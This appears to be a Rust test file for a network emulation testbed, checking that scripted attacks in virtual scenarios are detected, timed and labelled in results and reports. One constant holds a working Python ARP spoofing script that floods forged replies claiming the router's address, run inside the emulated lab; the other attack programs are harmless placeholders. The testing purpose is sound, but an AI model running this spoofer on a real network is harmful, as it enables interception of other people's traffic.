//! Attacks in the results: the host whose address was claimed, and the labels.

use crate::link_changes::by_python;
use crate::support::{Finished, Lab, Running};

/// Program on host `bad` that claims the address of its network's router by ARP.
const LIE: &str = r#"
import socket, subprocess, time
gateway = subprocess.check_output(["ip", "-4", "route", "show", "default"], text=True).split()[2]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
mac = wire.getsockname()[4]
message = b"\0\1\x08\0\6\4\0\2" + mac + socket.inet_aton(gateway) + b"\xff" * 6 + bytes([10, 0, 1, 2])
while True:
    wire.send(b"\xff" * 6 + mac + b"\x08\x06" + message)
    time.sleep(0.1)
"#;

const SCENARIO: &str = r#"
schema = "timeloom/1"
name = "router"
time = { duration = "1 s" }
[network]
routers = ["r1"]
[system]
switches = ["s1"]
links = [
    { between = ["a", "s1"], name = "tap" },
    { between = ["bad", "s1"] },
    { between = ["s1", "r1"] },
    { between = ["r1", "b"] },
]
[system.hosts.a]
address = "10.0.1.2/24"
[system.hosts.bad]
address = "10.0.1.3/24"
[system.hosts.b]
address = "10.0.2.2/24"
[[capture]]
link = "tap"
[[attack]]
id = "lie"
at = "100 ms"
host = "bad"
target = ["r1", "a"]
programs = [{ name = "lie", run = ["python3", "lie.py"] }]
"#;

#[test]
fn the_address_of_a_router_is_watched_and_labels_name_the_target() {
    let lab = Lab::with_text(SCENARIO);
    std::fs::write(lab.path().join("lie.py"), LIE).expect("there is room");
    // The attacker starts within the run, however busy the machine is.
    let run = lab.run(&["time.mode=skip", "time.compute=none"]);
    assert!([0, 4].contains(&run.code), "{}", run.output());
    lab.assert_nothing_left();
    let directory = run.directory();
    let mut spoofed = Vec::new();
    directory
        .for_each(|row: timeloom_results::EventRow| {
            spoofed.extend((&*row.kind == "spoofed").then_some(row));
            Ok(())
        })
        .expect("the events can be read");
    let first = spoofed
        .first()
        .unwrap_or_else(|| panic!("{}", run.output()));
    assert_eq!((&*first.host, &*first.source), ("bad", "tap"));
    assert!(first.text.contains(", which is r1's"), "{}", first.text);
    assert!(run.path().join("net/tap.pcapng").is_file());
    let labels = directory.labels().expect("the labels can be read");
    assert_eq!((&*labels[0].attack, &*labels[0].target), ("lie", "r1 a"));
    // This attack has no technique, and the report must not show one.
    let report = std::fs::read_to_string(run.path().join("report.html"));
    let report = report.expect("there is a report");
    assert!(report.contains("lie begins, against r1 a"), "no moment");
    assert!(!report.contains("()"), "empty parentheses");
}

#[test]
fn a_target_that_is_not_there_is_a_mistake() {
    let lab = Lab::with_text(&SCENARIO.replace("[\"r1\", \"a\"]", "[\"r2\"]"));
    let run = lab.run(&[]);
    assert_eq!(run.code, 2, "{}", run.output());
    let said = "there is no `r2` to attack";
    assert!(run.stderr.contains(said), "{}", run.output());
    assert!(
        run.stderr.contains("did you mean `r1`?"),
        "{}",
        run.output()
    );
}

/// A run with three attacks: `flood` begins by hand, and its second program a second after the
/// first; `timed` begins by itself, `later` by an event.
pub(crate) const BY_HAND: &str = r#"
schema = "timeloom/1"
name = "by-hand"
time = { duration = "1000 s" }
[system]
switches = ["s1"]
links = [{ between = ["a", "s1"] }, { between = ["bad", "s1"] }]
[system.hosts.a]
address = "10.0.1.2/24"
[system.hosts.bad]
address = "10.0.1.3/24"
[[attack]]
id = "flood"
host = "bad"
technique = ["T0814"]
target = ["a"]
programs = [
    { name = "flood", run = ["sh", "-c", "echo begun; sleep 5000 & wait"] },
    { name = "second", run = ["sh", "-c", "echo begun; exec sleep 5000"], start = "1 s" },
    { name = "third", run = ["sh", "-c", "echo begun; exec sleep 5000"], start = "400 s" },
]
[[attack]]
id = "timed"
at = "500 s"
host = "bad"
programs = [{ name = "timed", run = ["sleep", "5000"] }]
[[attack]]
id = "later"
host = "bad"
target = ["a"]
programs = [{ name = "later", run = ["sleep", "5000"] }]
[[event]]
at = "100 s"
attack = "later"
action = "start"
[[event]]
at = "200 s"
attack = "later"
action = "stop"
[[event]]
at = "600 s"
attack = "timed"
action = "stop"
"#;

/// Returns the labels as names, targets and intervals in ns.
fn intervals(run: &Finished) -> Vec<(String, String, i64, i64)> {
    let labels = run.directory().labels().expect("the labels can be read");
    let labels = labels.iter().map(|label| {
        let (id, target) = (label.attack.to_string(), label.target.to_string());
        (id, target, label.start.as_ns(), label.end.as_ns())
    });
    let mut all: Vec<_> = labels.collect();
    all.sort();
    all
}

#[test]
fn an_attack_starts_and_stops_by_hand_and_is_labelled_as_if_scheduled() {
    let lab = Lab::with_text(BY_HAND);
    let mut run = lab.start(&[]);
    run.wait_for("it cannot be controlled", |run| {
        run.control("query").is_ok()
    });
    let refused = |run: &Running<'_>, request: &str, part: &str| {
        let why = run.control(request).expect_err("it is refused");
        assert!(why.contains(part), "{request}: {why}");
    };
    run.wait_for("it does not begin", |run| run.virtual_s() > Some(0.0));
    refused(
        &run,
        "attack start dos",
        "there is no attack `dos` in this run; there are flood",
    );
    refused(&run, "attack stop flood", "has not begun");
    refused(&run, "attack start timed", "begins by itself, at 500 s");
    run.control("attack start flood").expect("it starts");
    refused(&run, "attack start flood", "begins once");
    run.wait_for_line("flood", "begun");
    run.wait_for_line("second", "begun");
    let of_attack = |run: &Running<'_>| {
        let status = run.control("query").expect("it answers");
        let all = status["processes"].as_array().expect("a list").clone();
        let is_hostile = |it: &&serde_json::Value| it["host"] == "bad";
        all.iter().filter(is_hostile).count()
    };
    assert_eq!(
        of_attack(&run),
        3,
        "a shell, its child, and the second program"
    );
    by_python(&lab, "stop_attack('flood')");
    run.wait_for("its programs still run", |run| of_attack(run) == 0);
    refused(&run, "attack start flood", "was stopped");
    let run = run.stop();
    lab.assert_nothing_left();
    let all = intervals(&run);
    let (id, target, start, end) = &all[0];
    assert_eq!((id.as_str(), target.as_str()), ("flood", "a"));
    assert!(0 < *start && start + 1_000_000_000 <= *end, "{all:?}");
    let events = run.directory().events().expect("readable");
    let events = events.iter().filter(|event| &*event.kind == "attack");
    let texts: Vec<&str> = events.map(|event| &*event.text).collect();
    assert_eq!(texts, ["started by hand", "stopped by hand"]);
}

#[test]
fn events_start_and_stop_attacks_at_their_instants() {
    let lab = Lab::with_text(BY_HAND);
    let run = lab
        .run(&["time.mode=skip", "time.compute=none"])
        .succeeded();
    lab.assert_nothing_left();
    let s = |s: i64| s * 1_000_000_000;
    let expected = [
        ("later", "a", s(100), s(200)),
        ("timed", "", s(500), s(600)),
    ];
    let expected = expected.map(|(id, target, start, end)| (id.into(), target.into(), start, end));
    assert_eq!(intervals(&run), expected);
    let events = run.directory().events().expect("readable");
    let began = events.iter().filter(|event| &*event.kind == "start");
    let began: Vec<(&str, i64)> = began
        .map(|event| (&*event.source, event.t_virtual.as_ns()))
        .collect();
    assert_eq!(began, [("later", s(100)), ("timed", s(500))]);
}

#[test]
fn an_event_of_an_attack_that_begins_by_itself_cannot_start_it() {
    let action = "attack = \"timed\"\naction = \"stop\"";
    let lab = Lab::with_text(&BY_HAND.replace(action, &action.replace("stop", "start")));
    let run = lab.run(&[]);
    assert_eq!(run.code, 2, "{}", run.output());
    let said = run.output();
    assert!(
        said.contains("the attack `timed` begins by itself, at 500 s"),
        "{said}"
    );
}
